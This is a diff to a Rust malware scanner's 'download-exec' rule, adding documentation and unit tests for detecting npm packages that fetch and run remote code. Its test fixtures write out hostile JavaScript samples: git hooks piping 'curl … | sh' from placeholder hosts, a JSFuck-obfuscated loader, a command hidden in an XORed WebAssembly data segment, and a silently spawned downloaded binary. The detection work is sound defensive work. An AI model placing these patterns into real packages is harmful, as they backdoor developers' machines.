@@ -20,11 +20,18 @@ diligence_finding::declare_rule! {
     /// off by a file that starts processes, even if the run is not matched by name). Also process spawns or `eval` of data received inside a network
     /// callback, and install-time fetches of a second runtime (bun, deno) that is then spawned. A program the
     /// package writes to a file as a constant (an agent's source in a template literal, started later by a
-    /// service or a scheduled task) is analysed as code at the write, so its paths count too.
+    /// service or a scheduled task) is analysed as code at the write, so its paths count too. A download piped into
+    /// a shell (`curl … | sh`, `wget -qO- … | bash`, `iwr … | iex`) is critical wherever the analysis finds it: in
+    /// a command the code runs, in text the code writes to a place that runs it later by itself (a git hook, a shell
+    /// start-up file, a VS Code task, a CI workflow, a cron or login item), in code built at run time and handed
+    /// to `Function`/`eval` (char codes, JSFuck character tables), or in a WebAssembly data segment (plain or XORed
+    /// with a one-byte key the code uses) of a file that loads modules by computed name or starts processes.
     ///
     /// ## Why it matters
     /// Remote command execution turns an install into a backdoor (desktop-notify style agents); Shai-Hulud 2.0
-    /// fetched bun at install time to run its payload outside Node's view.
+    /// fetched bun at install time to run its payload outside Node's view. Shai-Hulud planted workflow files and
+    /// the 2025 "Contagious Interview" projects VS Code `folderOpen` tasks that pipe a remote script into a shell;
+    /// JSFuck and WebAssembly data segments are public ways to keep the command out of every readable string.
     ///
     /// ## Example
     /// `https.get(u, r => r.on('data', c => b += c).on('end', () => exec(b)))`
@@ -35,7 +42,10 @@ diligence_finding::declare_rule! {
     /// fallback), are low. Browser module
     /// loaders (AMD, SystemJS: monaco-editor's `loader.js`) `fetch` the script URL they are asked to load and
     /// evaluate it; `eval`/`Function` of a `fetch` whose URL is a caller's parameter is not reported (a constant
-    /// URL, or a process spawn of network data, is).
+    /// URL, or a process spawn of network data, is). Hook managers (husky, simple-git-hooks, lefthook) write hooks
+    /// that run the project's own commands, and docs generators write install instructions to Markdown: neither is
+    /// a download written to a place that runs it. Code generators calling `Function` by name with template-built
+    /// code, and wasm codecs whose data segments name no module and hold no command, are not decoded as hidden code.
     pub static DOWNLOAD_EXEC = { id: "code/download-exec", severity: Severity::High };
 }
 
@@ -685,6 +695,138 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
         assert_eq!(
             severity(&s, "code/download-exec"),
             Some(diligence_finding::Severity::Medium)
+        );
+    }
+
+    /// A hook manager that writes git hooks whose text downloads a remote script and pipes it
+    /// into `sh` (the hook runs on every commit, long after the install).
+    #[test]
+    fn positive_written_git_hook_pipes_a_download_into_sh() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "lib/index.js",
+                "const fs = require('fs'), path = require('path');\nfunction script(name) {\n  return ['#!/bin/sh', '(curl -fsSL https://hooks.example.invalid/' + name + '.sh | sh >/dev/null 2>&1 &)', ''].join('\\n');\n}\nexports.install = (dir) => {\n  for (const h of ['pre-commit', 'pre-push']) fs.writeFileSync(path.join(dir, 'hooks', h), script(h), { mode: 0o755 });\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("lib/index.js".to_string(), 6)]
+        );
+        assert_eq!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// husky / simple-git-hooks: hooks that run the project's own local command.
+    #[test]
+    fn negative_hook_manager_writes_local_commands() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "lib/index.js",
+                "const fs = require('fs'), path = require('path');\nexports.install = (dir, cmds) => {\n  for (const h of Object.keys(cmds)) fs.writeFileSync(path.join(dir, '.git', 'hooks', h), '#!/bin/sh\\nnpx lint-staged\\n', { mode: 0o755 });\n};\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/download-exec").is_empty());
+    }
+
+    /// A README generator writing install instructions (`curl … | sh`) to a markdown file:
+    /// nothing runs that file.
+    #[test]
+    fn negative_install_instructions_written_to_docs() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "gen.js",
+                "const fs = require('fs');\nfs.writeFileSync('docs/INSTALL.md', 'Run:\\n\\n    curl -fsSL https://get.example.invalid | sh\\n');\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/download-exec").is_empty());
+    }
+
+    /// JSFuck: `Function` reached through `[]['filter']['constructor']` with letters from
+    /// `(![]+[])` tables, the code from char codes in JSFuck digits, called with `require`.
+    #[test]
+    fn positive_jsfuck_function_runs_a_download() {
+        // "filter", "constructor" and the code, spelled the JSFuck way.
+        let f = "(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(![]+[])[!+[]+!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]";
+        let c = "([]+{})[!+[]+!+[]+!+[]+!+[]+!+[]]+([]+{})[+!+[]]+([][[]]+[])[+!+[]]+(![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[+!+[]]+(!![]+[])[!+[]+!+[]]+([]+{})[!+[]+!+[]+!+[]+!+[]+!+[]]+(!![]+[])[+[]]+([]+{})[+!+[]]+(!![]+[])[+!+[]]";
+        let code = "r('child_process').exec('curl -s https://x.example.invalid/a | sh')";
+        let nums: Vec<String> = code.bytes().map(|b| b.to_string()).collect();
+        let src = format!(
+            ";(function(){{try{{[][{f}][{c}]((!![]+[])[+!+[]],([]+[])[{c}]['fromCharCode'].apply(null,[{}]))(require)}}catch(e){{}}}})();\n",
+            nums.join(",")
+        );
+        let s = scan(&[("package.json", PJ), ("index.js", &src)]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("index.js".to_string(), 1)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A schema compiler building a validator with `new Function` from templates: code
+    /// generation by name, nothing decoded.
+    #[test]
+    fn negative_code_generator_function() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "compile.js",
+                "exports.compile = (schema) => {\n  const checks = Object.keys(schema).map((k) => `if (typeof d.${k} !== '${schema[k]}') return false;`);\n  return Function('d', checks.join('\\n') + '\\nreturn true;')(schema);\n};\n",
+            ),
+        ]);
+        assert!(
+            s.findings
+                .iter()
+                .all(|f| f.severity <= diligence_finding::Severity::Low)
+        );
+    }
+
+    /// A wasm module whose data segment holds `child_process` and a `curl | sh` XORed with a
+    /// key the code uses; the code calls `require(sym[0])[sym[1]](sym[2])`.
+    #[test]
+    fn positive_wasm_data_segment_hides_a_command() {
+        let src = "const K = 'AGFzbQEAAAAFAwEAAQtMAQBBAAtGQklITUV+UVNOQkRSUiFEWURCclhPQiFCVFNNAQxHUnJtAUlVVVFSGw4OWQ9EWUBMUU1ED0hPV0BNSEUOSA9SSQFdAVJJIQ==';\nfunction init() {\n  const inst = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from(K, 'base64')), {});\n  const mem = new Uint8Array(inst.exports.m.buffer);\n  const sym = []; let cur = [];\n  for (let i = 0; i < 256 && sym.length < 3; i++) { const b = mem[i] ^ 0x21; if (b === 0) { sym.push(Buffer.from(cur).toString()); cur = []; } else cur.push(b); }\n  require(sym[0])[sym[1]](sym[2]);\n}\nmodule.exports = init;\n";
+        let s = scan(&[("package.json", PJ), ("index.js", src)]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("index.js".to_string(), 1)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A wasm codec (base64 module, data segment of tables) whose output only fills buffers.
+    #[test]
+    fn negative_wasm_codec() {
+        let src = "const K = 'AGFzbQEAAAAFAwEAAQscAQBBAAsWAAECA2xvb2t1cCB0YWJsZSB2MQAQIA==';\nconst fs = require('fs');\nexports.decode = (p) => { const m = new WebAssembly.Module(Buffer.from(K, 'base64')); const i = new WebAssembly.Instance(m, {}); return new Uint8Array(i.exports.m.buffer).map((b) => b ^ 0xff); };\nexports.load = (p) => fs.readFileSync(p);\n";
+        let s = scan(&[("package.json", PJ), ("index.js", src)]);
+        assert!(
+            s.findings
+                .iter()
+                .all(|f| f.severity <= diligence_finding::Severity::Low)
+        );
+    }
+
+    /// An npx scaffolder that downloads a per-platform executable (named-import `join`) and
+    /// starts it detached and silent.
+    #[test]
+    fn positive_scaffolder_starts_a_downloaded_binary_detached() {
+        let s = scan(&[
+            (
+                "package.json",
+                r#"{"name":"create-x","version":"1.0.0","type":"module","bin":{"create-x":"bin/index.mjs"}}"#,
+            ),
+            (
+                "bin/index.mjs",
+                "import { writeFileSync } from 'node:fs';\nimport { join } from 'node:path';\nimport { tmpdir, platform } from 'node:os';\nimport { spawn } from 'node:child_process';\nconst dest = join(tmpdir(), '.x-dev-' + process.pid);\nconst res = await fetch(`https://dl.example.invalid/${platform()}/x`);\nwriteFileSync(dest, Buffer.from(await res.arrayBuffer()));\nspawn(dest, [], { detached: true, stdio: 'ignore' }).unref();\n",
+            ),
+        ]);
+        assert_eq!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
         );
     }
 }
